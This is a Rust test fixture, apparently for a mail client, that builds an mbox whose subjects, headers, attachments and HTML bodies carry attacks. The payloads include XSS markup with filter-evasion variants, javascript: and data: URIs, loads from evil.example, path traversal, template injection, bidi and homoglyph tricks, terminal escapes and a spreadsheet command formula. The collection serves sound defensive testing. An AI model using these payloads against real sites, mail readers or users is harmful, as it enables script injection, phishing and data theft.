//! What an attacker may write where the page shows something. Whatever of it ran would set `top.canary`, open a dialog,
//! or ask `evil.example` for something.

/// Markup that runs, loads, leads away or imitates, in a browser that takes text for markup.
const MARKUP: [&str; 76] = [
    "<script>top.canary=1</script>",
    "<script src=//evil.example/a.js></script>",
    "<script type=module>import '//evil.example/m.js'</script>",
    "</title><script>top.canary=1</script>",
    "</textarea><script>top.canary=1</script>",
    "</style><script>top.canary=1</script>",
    "--><script>top.canary=1</script>",
    "]]><script>top.canary=1</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=top.canary=1>\">",
    "<img src=x onerror=top.canary=1>",
    "<img src=http://evil.example/p.png>",
    "<img srcset='http://evil.example/p.png 1x'>",
    "<img src=`x`onerror=top.canary=1>",
    "<image href=x onerror=top.canary=1>",
    "<picture><source srcset=//evil.example/s.png><img></picture>",
    "<svg onload=top.canary=1>",
    "<svg><script>top.canary=1</script></svg>",
    "<svg><animate onbegin=top.canary=1 attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:top.canary=1>",
    "<svg><a xlink:href=javascript:top.canary=1><text y=20>x</text></a></svg>",
    "<svg><use href=//evil.example/s.svg#x>",
    "<svg><foreignObject><iframe srcdoc='<script>top.canary=1</script>'></iframe></foreignObject></svg>",
    "<svg><image href=//evil.example/i.png>",
    "<svg><style>*{background:url(//evil.example/c)}</style></svg>",
    "<math><mtext></p><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=top.canary=1&gt;\">",
    "<math href=javascript:top.canary=1>click</math>",
    "<math><annotation-xml encoding=text/html><script>top.canary=1</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=top.canary=1>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=top.canary=1>\">",
    "<style>@import '//evil.example/c.css';</style>",
    "<style>body{background:url(//evil.example/b)}</style>",
    "<style>@font-face{font-family:x;src:url(//evil.example/f)}*{font-family:x}</style>",
    "<link rel=stylesheet href=//evil.example/l.css>",
    "<link rel=preload as=script href=//evil.example/l.js>",
    "<link rel=prefetch href=//evil.example/l>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/r'>",
    "<meta http-equiv=refresh content='0;url=javascript:top.canary=1'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<meta http-equiv=Set-Cookie content='a=b'>",
    "<iframe src=//evil.example/f></iframe>",
    "<iframe src=javascript:top.canary=1></iframe>",
    "<iframe srcdoc='<script>top.canary=1</script>'></iframe>",
    "<object data=//evil.example/o></object>",
    "<object data='data:text/html,<script>top.canary=1</script>'></object>",
    "<embed src=//evil.example/e>",
    "<embed src=javascript:top.canary=1>",
    "<applet code=x archive=//evil.example/a.jar></applet>",
    "<form action=//evil.example/p><button autofocus onfocus=top.canary=1>x</button></form>",
    "<form id=f></form><button form=f formaction=javascript:top.canary=1>x</button>",
    "<input autofocus onfocus=top.canary=1>",
    "<input type=image src=//evil.example/i.png>",
    "<select autofocus onfocus=top.canary=1>",
    "<textarea autofocus onfocus=top.canary=1>",
    "<details open ontoggle=top.canary=1>",
    "<video src=//evil.example/v poster=//evil.example/p onerror=top.canary=1>",
    "<audio src=//evil.example/a autoplay onerror=top.canary=1>",
    "<video><source onerror=top.canary=1 src=x></video>",
    "<track src=//evil.example/t>",
    "<body onload=top.canary=1>",
    "<body background=//evil.example/b>",
    "<table background=//evil.example/t>",
    "<marquee onstart=top.canary=1>x</marquee>",
    "<div style=\"background:url(//evil.example/d)\">x</div>",
    "<div style=\"position:fixed;inset:0;z-index:9999\">covered</div>",
    "<div onmouseover=top.canary=1 style=position:fixed;inset:0>x</div>",
    "<x onfocusin=top.canary=1 tabindex=1 autofocus>",
    "<x contenteditable onblur=top.canary=1 autofocus>x",
    "<template><script>top.canary=1</script></template>",
    "<template shadowrootmode=open><img src=x onerror=top.canary=1></template>",
    "<slot onslotchange=top.canary=1></slot>",
    "<a href=javascript:top.canary=1 id=x autofocus>x</a>",
    "<a href=//evil.example ping=//evil.example/ping>x</a>",
    "<portal src=//evil.example>",
    "<dialog open><h2>Your session has ended. Password:</h2><input></dialog>",
];

/// Texts that are no markup and mean harm all the same: links, templates, characters, encodings, prototypes.
const TEXTS: [&str; 50] = [
    "javascript:top.canary=1",
    "java\tscript:top.canary=1",
    "JaVaScRiPt&colon;top.canary=1",
    "vbscript:msgbox(1)",
    "data:text/html,<script>top.canary=1</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AuY2FuYXJ5PTE8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.canary=1'/>",
    "blob:http://evil.example/1",
    "file:///etc/passwd",
    "\\\\evil.example\\share\\x",
    "//evil.example/x",
    "http://evil.example/?c=",
    "mailto:a@evil.example?subject=x",
    "../../../../api/session",
    "/api/items/../session",
    "%2e%2e%2fapi%2fsession",
    "?opinion=authenticated&decision=use",
    "#token=aaaa",
    "{{constructor.constructor('top.canary=1')()}}",
    "${top.canary=1}",
    "#{top.canary=1}",
    "<%= top.canary=1 %>",
    "{%raw%}{{7*7}}",
    "'-top.canary=1-'",
    "\"-top.canary=1-\"",
    "`${top.canary=1}`",
    "\\u003cscript\\u003etop.canary=1\\u003c/script\\u003e",
    "&lt;script&gt;top.canary=1&lt;/script&gt;",
    "&#60;script&#62;top.canary=1&#60;/script&#62;",
    "+ADw-script+AD4-top.canary=1+ADw-/script+AD4-",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "[object Object]",
    "\" onmouseover=\"top.canary=1",
    "' autofocus onfocus='top.canary=1",
    "\u{202e}gpj.exe",
    "\u{2066}isolated\u{2069}\u{2067}turned",
    "\u{200b}\u{200c}\u{200d}\u{feff}nothing to see",
    "paypa\u{0455}.example",
    "\u{1b}[2J\u{1b}]0;title\u{7}",
    "a\u{0}b\u{8}\u{8}c\u{7f}",
    "\u{85}\u{2028}\u{2029}line ends",
    "\u{e0041}\u{e0042}tags",
    "Z\u{0351}\u{036b}\u{0343}\u{036a}\u{0302}\u{036b}\u{033d}\u{034f}\u{0334}\u{0319}\u{0324}a\u{035e}l\u{0352}g\u{0344}o",
    "\u{fff9}hidden\u{fffa}reading\u{fffb}",
    "=cmd|'/c calc'!A1",
    "\u{fdfd}\u{1242b}\u{a9c5}",
    "CON.txt::$DATA",
];

/// Every payload, once as it is and in the dress that filters stumble over.
pub(crate) fn payloads() -> Vec<String> {
    let dressed = MARKUP.iter().flat_map(|payload| {
        let slashed = payload.replace(' ', "/");
        let split = payload
            .replacen("<s", "<\u{0}s", 1)
            .replacen("on", "o\u{ad}n", 1);
        let doubled = payload
            .replacen('<', "<<", 1)
            .replacen("script", "scr<script>ipt", 1);
        [
            (*payload).to_owned(),
            payload.to_uppercase(),
            slashed,
            split,
            doubled,
        ]
    });
    let mut all: Vec<String> = dressed
        .chain(TEXTS.iter().map(|text| (*text).to_owned()))
        .collect();
    all.sort();
    all.dedup();
    all
}

/// One mailbox that carries every payload in subject, names, file names, header values, text and HTML.
pub(crate) fn mailbox() -> Vec<u8> {
    let mut mbox = Vec::new();
    for (n, payload) in payloads().iter().enumerate() {
        mbox.extend_from_slice(message(n, payload).as_bytes());
    }
    mbox
}

fn message(n: usize, payload: &str) -> String {
    let word = format!(
        "=?utf-8?B?{}?=",
        base64_simd::STANDARD.encode_to_string(payload)
    );
    let line: String = payload.chars().filter(|c| !c.is_control()).collect();
    let quoted = line.replace('\\', "\\\\").replace('"', "\\\"");
    let percent: Vec<String> = payload.bytes().map(|byte| format!("%{byte:02X}")).collect();
    let percent = percent.concat();
    format!(
        "From mallory@evil.example Tue Mar 01 10:{:02}:{:02} 2016\n\
        From: {word} <mallory{n}@evil.example>\n\
        To: \"{quoted}\" <anna@onwards.example>\n\
        Subject: {word}\n\
        Date: Tue, 01 Mar 2016 10:{:02}:{:02} +0000\n\
        Message-ID: <{n}.payload@evil.example>\n\
        X-Mailer: {line}\n\
        X-Note: {word}\n\
        MIME-Version: 1.0\n\
        Content-Type: multipart/mixed; boundary=cut{n}\n\
        \n\
        --cut{n}\n\
        Content-Type: multipart/alternative; boundary=alt{n}\n\
        \n\
        --alt{n}\n\
        Content-Type: text/plain; charset=utf-8\n\
        \n\
        canary text {n}: {payload}\n\
        --alt{n}\n\
        Content-Type: text/html; charset=utf-8\n\
        \n\
        <p>canary html {n}</p>{payload}\n\
        --alt{n}--\n\
        --cut{n}\n\
        Content-Type: text/plain; charset=utf-8\n\
        Content-Disposition: attachment; filename*=utf-8''{percent}\n\
        \n\
        attached {n} {payload}\n\
        --cut{n}--\n\n",
        n / 60 % 60,
        n % 60,
        n / 60 % 60,
        n % 60,
    )
}
